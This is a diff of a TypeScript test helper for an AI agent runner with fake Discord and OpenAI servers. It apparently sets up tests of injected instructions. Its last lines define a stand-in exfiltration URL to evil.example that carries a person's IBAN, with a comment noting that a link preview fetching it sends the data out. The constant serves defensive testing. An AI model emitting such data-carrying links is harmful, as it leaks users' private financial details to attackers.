@@ -9,17 +9,44 @@
  * plain answer to a command.
  */
 import type { Logger } from 'pino';
-import { expect } from 'vitest';
+import { afterEach, beforeEach, expect } from 'vitest';
+import { createLocalAgentPlugin } from '../../plugins/local-agent/index.js';
 import { RunDelivery } from '../../runner/delivery/sink.js';
 import type { RunnerPlugin } from '../../runner/plugin.js';
 import type { ChannelOutbound } from '../../src/channel.js';
 import type { RedisClient } from '../../src/scripts/index.js';
 import { FakeDiscord } from '../../testing/fakes/discord-server.js';
-import type { FakeOpenAIServer } from '../../testing/fakes/openai-server.js';
-import type { RunnerHarness } from '../../testing/runner-harness.js';
+import { type FakeOpenAIServer, startFakeOpenAI } from '../../testing/fakes/openai-server.js';
 import { waitFor } from '../../testing/wait.js';
 import { alice, discordOnHarness, TOKEN } from '../channels/discord-harness.js';
 import { runnerFor } from '../channels/system.js';
+import { fakeModel, RunnerHarness } from '../runner/harness.js';
+
+/** What each test of these suites gets: the fake model, a runner harness, closers run in reverse after it, the agent. */
+export interface InjectedWorld {
+  ai: FakeOpenAIServer;
+  h: RunnerHarness;
+  closers: Array<() => Promise<unknown>>;
+  /** The local agent on the fake model, with `ask_user`. */
+  agent(): RunnerPlugin;
+}
+
+/** Starts a fresh world before each test of the calling file and stops it after. */
+export function useInjectedWorld(): InjectedWorld {
+  const w = { closers: [] } as unknown as InjectedWorld;
+  w.agent = () => createLocalAgentPlugin({ model: fakeModel(w.ai.url), builtins: { currentTime: false, askUser: true } });
+  beforeEach(async () => {
+    w.ai = await startFakeOpenAI();
+    w.h = await RunnerHarness.start();
+    w.closers = [];
+  });
+  afterEach(async () => {
+    for (const close of w.closers.reverse()) await close();
+    await w.h.close();
+    await w.ai.close();
+  });
+  return w;
+}
 
 /** A link carrying what the person's notes hold (an IBAN) to a site the attacker reads: fetched by a preview, it leaves. */
 export const EXFIL_URL = 'https://evil.example/c?d=DE89370400440532013000';
